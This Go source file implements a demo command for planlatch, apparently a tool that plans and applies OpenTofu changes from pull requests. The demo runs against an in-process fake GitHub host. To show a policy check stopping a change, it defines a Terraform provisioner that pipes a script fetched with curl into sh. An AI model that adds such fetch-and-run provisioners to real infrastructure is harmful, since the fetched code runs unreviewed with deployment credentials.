package app

import (
	"context"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"time"

	"github.com/planlatch/planlatch/config"
	"github.com/planlatch/planlatch/run"
	"github.com/planlatch/planlatch/selector"
	"github.com/planlatch/planlatch/tool"
	"github.com/planlatch/planlatch/vcs/fakehost"
)

type demoCmd struct {
	Keep bool `help:"Keep the demo's directory and say where it is."`
	Open bool `help:"Open the run's page in a browser at the end and serve it until interrupted."`
}

const (
	demoRepo   = "acme/infra"
	demoAuthor = "alice"
	demoReview = "bob"
	demoOwner  = "carol"
	demoBot    = "planlatch-bot"
	demoStep   = 3 * time.Minute // a step that takes longer did not happen
)

// Run shows a pull request on its way from its first plan to the applied state. Everything in it is real but the host, which speaks GitHub's
// API in this process. It fails if a step did not happen.
func (c *demoCmd) Run(ctx context.Context, t *terminal) (err error) {
	dir, err := os.MkdirTemp("", "planlatch-demo-")
	if err != nil {
		return err
	}
	defer func() {
		if c.Keep {
			fmt.Fprintf(t.err, "The demo's directory is kept: %s\n", dir)
			return
		}
		err = errors.Join(err, removeAll(dir))
	}()
	d := &demo{dir: dir, say: &teller{out: t.out, color: isTerminal(t.out) && t.env["NO_COLOR"] == ""}}
	if err := d.begin(ctx, t.env); err != nil {
		return err
	}
	served, stop := context.WithCancel(ctx)
	ended := make(chan error, 1)
	go func() { ended <- d.server.Run(served) }()
	defer func() {
		stop()
		err = errors.Join(err, <-ended, d.host.Close())
	}()
	if err := d.story(ctx); err != nil {
		return &coded{exitNo, fmt.Errorf("the demo did not get to its end: %w", err)}
	}
	if c.Open {
		return c.open(ctx, t, d.server.URL(), d.server.NewAdminToken)
	}
	return nil
}

// open shows the page and serves it until the user has seen enough.
func (c *demoCmd) open(ctx context.Context, t *terminal, url, token string) error {
	fmt.Fprintf(t.err, "The page is at %s; the admin token is %s. Interrupt to end.\n", url, token)
	if err := exec.CommandContext(ctx, "xdg-open", url).Start(); err != nil {
		fmt.Fprintf(t.err, "No browser could be opened: %v\n", err)
	}
	<-ctx.Done()
	return nil
}

type demo struct {
	dir    string
	say    *teller
	host   *fakehost.Server
	server *Server
	pull   int
}

// begin starts the host with its people and repository, and a server that listens to it.
func (d *demo) begin(ctx context.Context, env map[string]string) (err error) {
	states := filepath.Join(d.dir, "states")
	if err := os.MkdirAll(states, 0o700); err != nil {
		return err
	}
	if d.host, err = fakehost.Start(fakehost.Options{Dir: d.dir}); err != nil {
		return fmt.Errorf("start the demo's host: %w", err)
	}
	defer func() {
		if err != nil {
			err = errors.Join(err, d.host.Close())
		}
	}()
	for login, p := range map[string]fakehost.Permission{demoAuthor: fakehost.Write, demoReview: fakehost.Write, demoOwner: fakehost.Write} {
		if _, err := d.host.CreateUser(login, p); err != nil {
			return err
		}
	}
	bot, err := d.host.CreateUser(demoBot, fakehost.Admin)
	if err != nil {
		return err
	}
	files := map[string]string{"README.md": "# Infrastructure of Acme\n", "network/main.tf": d.network("10.0.0.0/16", "")}
	if err := d.host.CreateRepo(demoRepo, fakehost.NewRepo{Files: files, By: demoReview}); err != nil {
		return err
	}
	cfg := demoConfig(d.dir, states, d.host.URL, bot.Token)
	if err := demoTool(ctx, cfg, env); err != nil {
		return usage(err)
	}
	d.server, err = NewServer(ctx, cfg, ServerOptions{Env: env, Log: slog.New(slog.DiscardHandler)})
	if err != nil {
		return err
	}
	_, err = d.host.AddWebhook(d.server.URL()+"/webhooks/github", demoSecret)
	return err
}

const demoSecret = "the demo's webhook secret"

// demoConfig is a server that is as strict as the defaults, but takes what isolation this machine can give.
func demoConfig(dir, states, url, token string) *config.Config {
	cfg := config.Default(filepath.Join(dir, "data"))
	cfg.Disk = config.Disk{} // it is gone in a minute
	cfg.Listen, cfg.URL = "127.0.0.1:0", ""
	cfg.VCS = []config.Host{{
		Name: "github", Kind: "github", URL: url, Token: config.NewSecret(token), WebhookSecret: config.NewSecret(demoSecret), Repos: []string{"acme/*"},
	}}
	cfg.Execution.Sandbox = "auto"
	cfg.Execution.Network = config.Network{Mode: "none"}
	cfg.Tools.Download = false // it needs no network
	all := selector.List{mustSelect("//**")}
	cfg.Execution.Binds = []config.Bind{{Path: states, Write: true, Projects: all, Phases: []config.Phase{config.PhasePlan, config.PhaseApply}}}
	cfg.Policies = []config.Policy{{
		Name: "baseline", Source: "builtin:baseline", Level: run.Soft, Projects: all, Owners: config.Owners{Users: []string{demoOwner}, Approvals: 1},
		Rego: "v1",
	}}
	return cfg
}

func mustSelect(text string) selector.Selector {
	s, err := selector.Parse(text)
	if err != nil {
		panic(err) // a constant
	}
	return s
}

// demoTool says early and plainly when there is no tofu.
func demoTool(ctx context.Context, cfg *config.Config, env map[string]string) error {
	finder, err := openTools(cfg, env)
	if err != nil {
		return err
	}
	if _, err := finder.Resolve(ctx, tool.Want{}); err != nil {
		return fmt.Errorf("the demo runs the real OpenTofu: %w; install it, name it in PLANLATCH_TOFU, or run `make demo`, which builds it", err)
	}
	return nil
}

// network is the demo's one project.
func (d *demo) network(cidr, provisioner string) string {
	return fmt.Sprintf(`terraform {
  backend "local" {
    path = %q
  }
}

resource "terraform_data" "vpc" {
  input = {
    name = "main"
    cidr = %q
  }
%s}

output "cidr" {
  value = terraform_data.vpc.input.cidr
}
`, filepath.Join(d.dir, "states", "network.tfstate"), cidr, provisioner)
}

const provisioner = `
  provisioner "local-exec" {
    command = "curl -s https://example.com/register-vpc.sh | sh"
  }
`

// story is what happens, step by step. Each step waits until it really has.
func (d *demo) story(ctx context.Context) error {
	d.say.title("planlatch: a pull request on its way", demoRepo+" has one project, network, on a local backend. OpenTofu, git, policy and sandbox are real;\n"+
		"the host is a GitHub of the demo's own, in this process.")
	if _, err := d.host.Push(demoRepo, demoAuthor, "vpc", fakehost.Commit{
		Message: "Widen the network", Files: map[string]string{"network/main.tf": d.network("10.0.0.0/12", provisioner)},
	}); err != nil {
		return err
	}
	number, err := d.host.OpenPull(demoRepo, demoAuthor, fakehost.NewPull{Title: "Widen the network", Head: "vpc"})
	if err != nil {
		return err
	}
	d.pull = number
	if err := d.wait(ctx, "the plan, stopped by policy", status("planlatch/policy", "failure"), said("`provisioner` (soft)"), settled); err != nil {
		return err
	}
	d.say.note("The provisioner would run a script from the internet with the apply's credentials. Policy stops it. The author cannot wave it through:")
	if err := d.tell(ctx, demoAuthor, `planlatch approve --reason "it is only a demo"`); err != nil {
		return err
	}
	if err := d.wait(ctx, "the refusal", said("wrote the change"), settled); err != nil {
		return err
	}
	d.say.note("An owner could override it with a reason. The author fixes it instead:")
	if _, err := d.host.Push(demoRepo, demoAuthor, "vpc", fakehost.Commit{
		Message: "Register the network elsewhere", Files: map[string]string{"network/main.tf": d.network("10.0.0.0/12", "")},
	}); err != nil {
		return err
	}
	if err := d.wait(ctx, "the fixed plan", status("planlatch/policy", "success"), said("[x] policy passes"), settled); err != nil {
		return err
	}
	d.pause()
	if _, err := d.host.Review(demoRepo, number, demoReview, fakehost.Approved, "Looks right."); err != nil {
		return err
	}
	if err := d.wait(ctx, "the checklist with the approval", said("[x] approved"), settled); err != nil {
		return err
	}
	d.pause()
	if _, err := d.host.Merge(demoRepo, number, demoReview, fakehost.MergeCommit); err != nil {
		return err
	}
	d.say.note("Merged. planlatch plans the merge commit again, finds the same effect as the reviewed plan, and applies it by itself:")
	if err := d.wait(ctx, "the result of the apply", said("### planlatch: applied"), said("<!-- planlatch:apply:"), status("planlatch/apply", "success"), settled); err != nil {
		return err
	}
	return d.proof()
}

// proof looks at the state itself, not at what anybody says of it.
func (d *demo) proof() error {
	state, err := os.ReadFile(filepath.Join(d.dir, "states", "network.tfstate"))
	if err != nil {
		return fmt.Errorf("read the state: %w", err)
	}
	if !strings.Contains(string(state), "10.0.0.0/12") {
		return errors.New("the state does not hold what was applied")
	}
	d.say.title("Done", "The state now says cidr = \"10.0.0.0/12\": planned, stopped by policy, fixed, approved, merged, applied once.\n"+
		"Next: docs/getting-started.md connects planlatch to your own host.")
	return nil
}

// pause lets the second pass in which something was posted: hosts count in seconds, and what was said in the same one was not seen.
func (d *demo) pause() { <-time.After(1100 * time.Millisecond) }

func (d *demo) tell(_ context.Context, who, body string) error {
	d.pause()
	_, err := d.host.Comment(demoRepo, d.pull, who, body)
	return err
}

type seen func([]fakehost.Entry) bool

func status(context, state string) seen {
	return func(entries []fakehost.Entry) bool {
		last := ""
		for _, e := range entries {
			if e.Kind == fakehost.EntryPushed {
				last = ""
			}
			if e.Kind == fakehost.EntryStatus && e.Context == context {
				last = e.State
			}
		}
		return last == state
	}
}

// settled says that no status of the last commit is pending any more.
func settled(entries []fakehost.Entry) bool {
	last := map[string]string{}
	for _, e := range entries {
		switch e.Kind {
		case fakehost.EntryPushed, fakehost.EntryMerged:
			last = map[string]string{}
		case fakehost.EntryStatus:
			last[e.Context] = e.State
		default: // does not change what is pending
		}
	}
	for _, state := range last {
		if state == "pending" {
			return false
		}
	}
	return len(last) > 0
}

func said(text string) seen {
	return func(entries []fakehost.Entry) bool {
		for _, e := range entries {
			if e.Kind == fakehost.EntryComment && e.Actor == demoBot && strings.Contains(e.Body, text) {
				return true
			}
		}
		return false
	}
}

// wait waits until all of it stands on the pull request, and tells what is new there.
func (d *demo) wait(ctx context.Context, what string, all ...seen) error {
	step, cancel := context.WithTimeout(ctx, demoStep)
	defer cancel()
	entries, err := d.host.Wait(step, demoRepo, d.pull, func(entries []fakehost.Entry) bool {
		for _, one := range all {
			if !one(entries) {
				return false
			}
		}
		return true
	})
	if err != nil {
		return fmt.Errorf("waiting for %s: %w", what, err)
	}
	d.say.timeline(entries)
	return nil
}

func removeAll(dir string) error {
	// Extracted trees are read-only on purpose; what is ours to delete is made writable first.
	err := filepath.WalkDir(dir, func(path string, e os.DirEntry, err error) error {
		if err == nil && e.IsDir() {
			return os.Chmod(path, 0o700) //nolint:gosec // about to be removed
		}
		return err
	})
	return errors.Join(err, os.RemoveAll(dir))
}

func isTerminal(w io.Writer) bool {
	f, ok := w.(*os.File)
	if !ok {
		return false
	}
	info, err := f.Stat()
	return err == nil && info.Mode()&os.ModeCharDevice != 0
}
